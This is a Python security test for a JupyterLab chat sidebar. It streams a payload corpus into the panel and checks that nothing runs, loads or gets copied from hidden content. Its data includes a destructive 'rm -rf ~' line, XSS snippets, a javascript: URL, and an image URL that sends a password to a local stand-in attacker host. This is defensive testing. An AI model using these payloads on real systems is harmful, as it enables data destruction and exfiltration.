"""The sidebar panel never runs, loads or copies what a reply hides (issue 14).

A model in a real kernel streams the payload corpus (tests/security/payloads.json) into the
panel in small pieces, so renders see the payloads cut at arbitrary places; the page is then
checked after each reply finished and again after a reload. A local beacon server stands in
for an attacker's host: nothing may reach it unless the user clicks "Load image".
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from lab_helpers import (
    STREAM_TIMEOUT,
    assistant_messages,
    cell_source,
    copied_text,
    new_notebook,
    notebook_cells,
    open_lab,
    panel,
    run_cell,
    send,
    wait_finished,
    wait_model_listed,
)

CORPUS = Path(__file__).resolve().parents[1] / "security" / "payloads.json"
PAYLOADS: list[dict[str, Any]] = json.loads(CORPUS.read_text(encoding="utf-8"))["payloads"]
GIF = bytes.fromhex(
    "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
)

MODEL = """
import json, time, jupyter_deltachat as dc
_replies = json.load(open("security_replies.json", encoding="utf-8"))
@dc.register("payload")
def payload(messages):
    text = _replies[messages[-1].content.strip()]
    step = max(1, len(text) // 25)
    for start in range(0, len(text), step):
        yield text[start:start + step]
        time.sleep(0.02)
"""

# Recorded in the page before any of its scripts: an <img> that enters the DOM (or gets a
# src) pointing anywhere but this origin or a data: URL, and any script a payload runs.
WATCH_IMAGES = """() => {
  window.__remoteImages = [];
  const remote = img => {
    const src = img.getAttribute('src');
    if (src === null || /^data:/i.test(src.trim())) return;
    try {
      if (new URL(src, document.baseURI).origin === location.origin) return;
    } catch { /* unparseable: record it */ }
    window.__remoteImages.push(src);
  };
  new MutationObserver(records => {
    for (const record of records) {
      if (record.type === 'attributes' && record.target.tagName === 'IMG') remote(record.target);
      for (const node of record.addedNodes) {
        if (node.nodeType !== Node.ELEMENT_NODE) continue;
        if (node.tagName === 'IMG') remote(node);
        node.querySelectorAll('img').forEach(remote);
      }
    }
  }).observe(document, { subtree: true, childList: true, attributes: true,
                         attributeFilter: ['src', 'srcset'] });
}"""

# Hidden-code cases: the source text of every code block the reply shows, in order.
SHOWN_CODE = {
    "hidden-code-zero-size-span": ["df.plot()"],
    "hidden-code-html-comment": ["import os; os.system('rm -rf ~')", "print('hello')"],
    "hidden-code-html-block": ['import os; os.remove("x")', "x = 1"],
    "hidden-code-inside-html-block-no-blank": ["steal()", "ok()"],
    "keep-fenced-html": ['<img src=x onerror="alert(1)">\n<script>go()</script>'],
    "keep-python-fence": [
        "import pandas as pd\ndf = pd.DataFrame({'a': [1, 2]})\nif df.a.max() < 3:\n    df.plot()"
    ],
}


NOT_MATHJAX = ":not(mjx-container, mjx-container *)"


class Beacon:
    """A listener on 127.0.0.1 standing in for an attacker's host: records every request."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        self._arrived = threading.Condition()
        beacon = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                with beacon._arrived:
                    beacon.paths.append(self.path)
                    beacon._arrived.notify_all()
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(GIF)))
                self.end_headers()
                self.wfile.write(GIF)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self.server.server_address[1]}"
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self._thread.start()

    def wait_for(self, path: str, timeout: float = STREAM_TIMEOUT / 1000) -> None:
        with self._arrived:
            if not self._arrived.wait_for(lambda: path in self.paths, timeout=timeout):
                raise AssertionError(f"the beacon never got {path}; it got {self.paths}")

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self._thread.join()


@pytest.fixture
def beacon() -> Iterator[Beacon]:
    server = Beacon()
    try:
        yield server
    finally:
        server.close()


def markdown(entry: dict[str, Any], beacon: Beacon) -> str:
    host = beacon.origin.split("://", 1)[1]
    return entry["markdown"].replace("{{BEACON_HOST}}", host).replace("{{BEACON}}", beacon.origin)


def replies(beacon: Beacon) -> dict[str, str]:
    """One reply per corpus class, the cases the test clicks through in a reply of their own."""
    grouped: dict[str, list[str]] = {}
    for entry in PAYLOADS:
        group = "clicks" if entry["click"] else entry["class"]
        grouped.setdefault(group, []).append(markdown(entry, beacon))
    return {name: "\n\n".join(parts) + "\n" for name, parts in grouped.items()}


class Watch:
    """What the page did that a reply must never make it do."""

    def __init__(self, page: Any, server_url: str) -> None:
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self._server = server_url.rstrip("/")
        page.on("dialog", self._dialog)
        page.on("request", lambda request: self.requests.append(request.url))
        page.add_init_script(f"({WATCH_IMAGES})()")

    def _dialog(self, dialog: Any) -> None:
        if dialog.type == "beforeunload":  # JupyterLab's own "leave the page?" on reload
            dialog.accept()
            return
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def check(self, page: Any, beacon: Beacon, where: str) -> None:
        assert page.evaluate("() => window.__pwned") is None, f"a payload ran ({where})"
        assert self.dialogs == [], where
        assert page.evaluate("() => window.__remoteImages") == [], where
        foreign = [url for url in self.requests if not url.startswith((self._server, "data:"))]
        assert foreign == [], where
        assert beacon.paths == [], where


def check_replies(page: Any, beacon: Beacon) -> None:
    """No element of a reply carries a class or style a payload brought (MathJax's own output
    aside); remote images are held."""
    body = panel(page).locator("[data-role='assistant'] .jp-DeltaChat-markdown")
    for entry in PAYLOADS:
        for attribute, part in entry["forbid_attrs"]:
            found = body.locator(f"[{attribute}*='{part}']{NOT_MATHJAX}")
            assert found.count() == 0, (entry["id"], found.first.evaluate("e => e.outerHTML"))
    assert body.locator(f"[style]{NOT_MATHJAX}").count() == 0
    assert panel(page).locator(".jp-DeltaChat-message").count() == 2 * len(replies(beacon))
    assert page.locator(".jp-Dialog").count() == 0
    held = body.locator(".jp-DeltaChat-heldImage")
    sources = sorted(held.evaluate_all("nodes => nodes.map(n => n.dataset.src)"))
    origin = beacon.origin
    assert sources == sorted(
        [
            f"{origin}/badge.svg",
            f"{origin}/cell.png",
            f"{origin}/chart.png",
            f"{origin}/li.png",
            f"{origin}/logo.png",
            f"{origin}/logo2.png",
            f"{origin}/logo2.png",  # [logo] is defined twice in this reply: the first wins
            f"{origin}/pixel.gif?d=my%20db%20password%20is%20hunter2",
            f"{origin}/q.png",
            f"//{origin.split('://', 1)[1]}/rel.png",
            "javascript:top.__pwned=1",
            "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9h"
            "ZD0idG9wLl9fcHduZWQ9MSIvPg==",
        ]
    )
    chart = held.filter(has_text="chart")
    assert chart.locator("button").text_content() == f"Load image from {origin[7:]}"
    dot = body.locator("img[alt='dot']")
    assert dot.get_attribute("src", timeout=1000).startswith("data:image/png;base64,")


def click_everything(page: Any, reply: Any) -> None:
    """Every link, button and summary a click-case reply shows (not the panel's own)."""
    targets = reply.locator(
        ".jp-DeltaChat-markdown a, .jp-DeltaChat-markdown summary,"
        " .jp-DeltaChat-markdown button:not(.jp-DeltaChat-loadImage)"
    )
    assert targets.count() > 0
    for index in range(targets.count()):
        targets.nth(index).click()
    for other in page.context.pages:
        if other is not page:
            other.close()


def test_payload_corpus_runs_nothing_and_loads_nothing(page, lab_server, beacon):
    watch = Watch(page, lab_server.url)
    open_lab(page, lab_server)
    texts = replies(beacon)
    (lab_server.root / "security_replies.json").write_text(json.dumps(texts), encoding="utf-8")
    new_notebook(page)
    run_cell(page, MODEL)
    wait_model_listed(page, "payload")
    for count, name in enumerate(texts, start=1):
        send(page, name, model="payload")
        reply = wait_finished(page, count=count)
        if name == "clicks":
            click_everything(page, reply)
    watch.check(page, beacon, "streamed and finished")
    check_replies(page, beacon)

    open_lab(page, lab_server, query="")
    panel(page).locator(".jp-DeltaChat-status[data-state='ready']", has_text=".ipynb").wait_for()
    assistant_messages(page).nth(len(texts) - 1).wait_for()
    wait_finished(page, count=len(texts))
    watch.check(page, beacon, "after a reload")
    check_replies(page, beacon)


def test_remote_image_loads_only_after_its_click(page, lab_server, beacon):
    watch = Watch(page, lab_server.url)
    open_lab(page, lab_server)
    entry = next(e for e in PAYLOADS if e["id"] == "remote-image-https-alt")
    (lab_server.root / "security_replies.json").write_text(
        json.dumps({"image": markdown(entry, beacon)}), encoding="utf-8"
    )
    new_notebook(page)
    run_cell(page, MODEL)
    wait_model_listed(page, "payload")
    send(page, "image", model="payload")
    reply = wait_finished(page, count=1)
    watch.check(page, beacon, "before the click")
    held = reply.locator(".jp-DeltaChat-heldImage")
    assert held.inner_text().startswith("chart")
    assert reply.locator("img").count() == 0

    held.get_by_role("button", name=f"Load image from {beacon.origin[7:]}").click()
    beacon.wait_for("/chart.png")
    image = reply.locator("img[alt='chart']")
    assert image.get_attribute("src") == f"{beacon.origin}/chart.png"
    assert image.get_attribute("title") == "Chart"
    page.wait_for_function(
        "img => img.complete && img.naturalWidth === 1", arg=image.element_handle()
    )
    assert reply.locator(".jp-DeltaChat-heldImage").count() == 0
    assert page.evaluate("() => window.__pwned") is None


def test_copy_and_insert_take_the_code_blocks_the_reply_shows(page, lab_server, beacon):
    open_lab(page, lab_server)
    texts = {e["id"]: markdown(e, beacon) for e in PAYLOADS if e["id"] in SHOWN_CODE}
    (lab_server.root / "security_replies.json").write_text(json.dumps(texts), encoding="utf-8")
    new_notebook(page)
    run_cell(page, MODEL)
    wait_model_listed(page, "payload")
    for count, name in enumerate(texts, start=1):
        send(page, name, model="payload")
        reply = wait_finished(page, count=count)
        blocks = reply.locator(".jp-DeltaChat-code")
        copies = [
            copied_text(page, blocks.nth(i).get_by_role("button", name="Copy code"))
            for i in range(blocks.count())
        ]
        assert copies == SHOWN_CODE[name], name
        shown = blocks.evaluate_all(
            "blocks => blocks.map(b => b.querySelector('pre').innerText.replace(/\\n$/, ''))"
        )
        assert shown == copies, name
        entry = next(e for e in PAYLOADS if e["id"] == name)
        if entry["code"] is not None:
            assert copies[-1] == entry["code"]

        cells = notebook_cells(page)
        before = cells.count()
        cells.first.click()
        blocks.last.get_by_role("button", name="Insert code below the active cell").click()
        page.wait_for_function(
            "n => document.querySelectorAll('.jp-NotebookPanel:not(.lm-mod-hidden) .jp-Cell')"
            ".length === n",
            arg=before + 1,
        )
        assert cell_source(cells.nth(1)) == SHOWN_CODE[name][-1], name
